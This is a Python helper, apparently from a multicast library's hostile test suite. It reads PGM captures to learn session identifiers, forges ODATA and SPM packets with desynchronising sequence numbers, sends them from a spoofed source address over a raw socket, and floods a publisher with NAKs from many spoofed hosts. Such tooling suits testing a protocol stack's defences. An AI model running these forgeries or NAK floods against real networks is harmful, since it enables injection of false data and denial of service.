#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Forged PGM packets for tests/hostile/live_hostile.sh (standard library only).

  pgm_forge.py learn CAPTURE.pcap
      Reads a prizma-capture pcap (raw IPv4 + UDP + PGM), checks every packet's PGM checksum
      against this file's own (RFC 3208 section 8: the RFC 1071 sum over the whole PGM packet,
      checksum field zero, 0 sent as 0xffff; as lib/pgm/checksum.* computes it) and prints what
      an attacker learns as shell assignments: TSI (GSI, source port), data-destination port,
      the newest ODATA sqn and trail, the newest SPM sqn and the source's NLA.
  pgm_forge.py downstream OUT.pcap SRC_IP GROUP PORT GSI SPORT DPORT SQN TRAIL SPM_SQN NLA
      Writes the forged downstream packets of that TSI as a pcap for prizma-capture --replay:
      (1) ODATA whose trail is ~2^31 ahead, (2) SPM whose trail and lead are far ahead, with
      another NLA, (3) ODATA 60,000 sqns ahead.
  pgm_forge.py send-downstream PCAP SPOOF_IP
      Sends the records of such a pcap to their group through a raw socket with SPOOF_IP as
      the IP source address (the source's own address: what pinning cannot tell apart).
  pgm_forge.py naks TO_IP PORT GSI SPORT DPORT NLA GROUP FIRST COUNT HOSTS REPEAT
      Sends NAKs (each: one sqn + OPT_NAK_LIST of 62) for sqns [FIRST, FIRST + COUNT) to the
      publisher's unicast port, from HOSTS spoofed addresses 10.77.0.100.. (raw socket), each
      host asking for its own share, REPEAT times. Prints how many NAKs and sqns went out.
"""
import socket
import struct
import sys

ODATA, SPM, NAK = 0x04, 0x00, 0x08
OPT_LENGTH, OPT_NAK_LIST, OPT_END = 0x00, 0x02, 0x80
MASK = 0xFFFFFFFF


def csum16(data: bytes) -> int:
    """RFC 1071 ones'-complement sum of big-endian 16-bit words (odd tail padded with 0)."""
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return s


def pgm_checksum(pkt: bytes) -> int:
    """The value of the checksum field (bytes 6-7) for `pkt`: its own field taken as zero."""
    c = ~csum16(pkt[:6] + b"\0\0" + pkt[8:]) & 0xFFFF
    return c if c != 0 else 0xFFFF


def with_checksum(pkt: bytes) -> bytes:
    return pkt[:6] + struct.pack("!H", pgm_checksum(pkt)) + pkt[8:]


def header(sport, dport, ptype, options, gsi: bytes, tsdu_len) -> bytes:
    return struct.pack("!HHBBH", sport, dport, ptype, options, 0) + gsi + struct.pack("!H", tsdu_len)


def nla(ip: str) -> bytes:
    return struct.pack("!HH", 1, 0) + socket.inet_aton(ip)


def odata(sport, dport, gsi, sqn, trail, payload: bytes) -> bytes:
    p = header(sport, dport, ODATA, 0, gsi, len(payload))
    return with_checksum(p + struct.pack("!II", sqn & MASK, trail & MASK) + payload)


def spm(sport, dport, gsi, spm_sqn, trail, lead, path_nla: str) -> bytes:
    p = header(sport, dport, SPM, 0, gsi, 0)
    return with_checksum(p + struct.pack("!III", spm_sqn & MASK, trail & MASK, lead & MASK) + nla(path_nla))


def nak(sport, dport, gsi, sqns, source_nla: str, group: str) -> bytes:
    """A NAK for sqns[0] with OPT_NAK_LIST for the rest (upstream: ports swapped by the caller)."""
    opts = b""
    flags = 0
    if len(sqns) > 1:
        lst = struct.pack("!BBBB", OPT_NAK_LIST | OPT_END, 4 + 4 * (len(sqns) - 1), 0, 0)
        lst += b"".join(struct.pack("!I", s & MASK) for s in sqns[1:])
        opts = struct.pack("!BBH", OPT_LENGTH, 4, 4 + len(lst)) + lst
        flags = 0x01 | 0x02  # options present, network-significant (as OpenPGM)
    p = header(sport, dport, NAK, flags, gsi, 0)
    return with_checksum(p + struct.pack("!I", sqns[0] & MASK) + nla(source_nla) + nla(group) + opts)


def ipv4_udp(src: str, dst: str, sport: int, dport: int, payload: bytes, ttl=1) -> bytes:
    udp = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload  # no UDP checksum
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0x4000, ttl, 17, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    ip = ip[:10] + struct.pack("!H", ~csum16(ip) & 0xFFFF) + ip[12:]
    return ip + udp


def read_pcap(path):
    with open(path, "rb") as f:
        data = f.read()
    magic = struct.unpack("<I", data[:4])[0]
    if magic not in (0xA1B2C3D4, 0xA1B23C4D):
        sys.exit("%s: not a little-endian pcap (magic %#x)" % (path, magic))
    link = struct.unpack("<I", data[20:24])[0]
    if link != 101:
        sys.exit("%s: link type %d, expected raw IP (101)" % (path, link))
    off = 24
    while off + 16 <= len(data):
        incl = struct.unpack("<I", data[off + 8:off + 12])[0]
        rec = data[off + 16:off + 16 + incl]
        off += 16 + incl
        if len(rec) < 28 or rec[0] >> 4 != 4 or rec[9] != 17:
            continue
        ihl = (rec[0] & 0x0F) * 4
        yield rec, rec[ihl + 8:]


def write_pcap(path, records):
    with open(path, "wb") as f:
        f.write(struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 65535, 101))
        for i, r in enumerate(records):
            f.write(struct.pack("<IIII", 1, i, len(r), len(r)) + r)


def serial_after(a, b):
    """True when sqn a follows b (RFC 1982 serial order, 32-bit)."""
    return 0 < ((a - b) & MASK) < 0x80000000


def learn(path):
    seen = bad = 0
    tsi = dport = None
    sqn = trail = spm_sqn = source_nla = None
    for _, pgm in read_pcap(path):
        if len(pgm) < 16:
            continue
        seen += 1
        if pgm_checksum(pgm) != struct.unpack("!H", pgm[6:8])[0]:
            bad += 1
            continue
        sport, dp, ptype = struct.unpack("!HHB", pgm[:5])
        tsi = (pgm[8:14].hex(), sport)
        dport = dp
        if ptype == ODATA:
            s, t = struct.unpack("!II", pgm[16:24])
            if sqn is None or serial_after(s, sqn):
                sqn, trail = s, t
        elif ptype == SPM:
            s = struct.unpack("!I", pgm[16:20])[0]
            if spm_sqn is None or serial_after(s, spm_sqn):
                spm_sqn = s
            source_nla = socket.inet_ntoa(pgm[32:36])
    if seen == 0 or bad != 0:
        sys.exit("learn: %d packets, %d with a checksum other than ours" % (seen, bad))
    if sqn is None or spm_sqn is None:
        sys.exit("learn: no ODATA or no SPM in %s" % path)
    print("gsi=%s sport=%d dport=%d sqn=%d trail=%d spm_sqn=%d nla=%s checked=%d"
          % (tsi[0], tsi[1], dport, sqn, trail, spm_sqn, source_nla, seen))


def downstream(out, src_ip, group, port, gsi_hex, sport, dport, sqn, trail, spm_sqn, source_nla):
    gsi = bytes.fromhex(gsi_hex)
    sport, dport, port = int(sport), int(dport), int(port)
    sqn, trail, spm_sqn = int(sqn), int(trail), int(spm_sqn)
    other_nla = src_ip if src_ip != source_nla else "10.77.0.99"
    pkts = [
        odata(sport, dport, gsi, sqn + 1, sqn + 1 + 0x7FFFFFF0, b"\xee" * 200),  # (1)
        spm(sport, dport, gsi, spm_sqn + 1, sqn + 0x100000, sqn + 0x100000 + 100, other_nla),  # (2)
        odata(sport, dport, gsi, sqn + 60000, trail, b"\xee" * 200),  # (3)
    ]
    write_pcap(out, [ipv4_udp(src_ip, group, 40000, port, p) for p in pkts])
    print("forged %d downstream packets into %s" % (len(pkts), out))


def raw_socket():
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    return s


def send_downstream(path, spoof_ip):
    s = raw_socket()
    n = 0
    for rec, _ in read_pcap(path):
        rec = bytearray(rec)
        rec[12:16] = socket.inet_aton(spoof_ip)
        rec[10:12] = b"\0\0"
        rec[10:12] = struct.pack("!H", ~csum16(bytes(rec[:20])) & 0xFFFF)
        s.sendto(bytes(rec), (socket.inet_ntoa(bytes(rec[16:20])), 0))
        n += 1
    print("sent %d downstream packets from %s" % (n, spoof_ip))


def naks(to_ip, port, gsi_hex, sport, dport, source_nla, group, first, count, hosts, repeat):
    gsi = bytes.fromhex(gsi_hex)
    port, sport, dport = int(port), int(sport), int(dport)
    first, count, hosts, repeat = int(first), int(count), int(hosts), int(repeat)
    s = raw_socket()
    sent = sqns = 0
    share = (count + hosts - 1) // hosts
    for _ in range(repeat):
        for h in range(hosts):
            src = "10.77.0.%d" % (100 + h)
            lo = first + h * share
            hi = min(first + count, lo + share)
            for start in range(lo, hi, 63):
                batch = list(range(start, min(hi, start + 63)))
                # Upstream: PGM source port = the data-destination port, destination = the TSI's.
                p = nak(dport, sport, gsi, batch, source_nla, group)
                s.sendto(ipv4_udp(src, to_ip, 41000 + h, port, p, ttl=64), (to_ip, 0))
                sent += 1
                sqns += len(batch)
    print("naks=%d sqns=%d hosts=%d" % (sent, sqns, hosts))


def main(argv):
    cmds = {"learn": (learn, 1), "downstream": (downstream, 11),
            "send-downstream": (send_downstream, 2), "naks": (naks, 11)}
    if len(argv) < 2 or argv[1] not in cmds or len(argv) - 2 != cmds[argv[1]][1]:
        sys.exit(__doc__)
    cmds[argv[1]][0](*argv[2:])


if __name__ == "__main__":
    main(sys.argv)
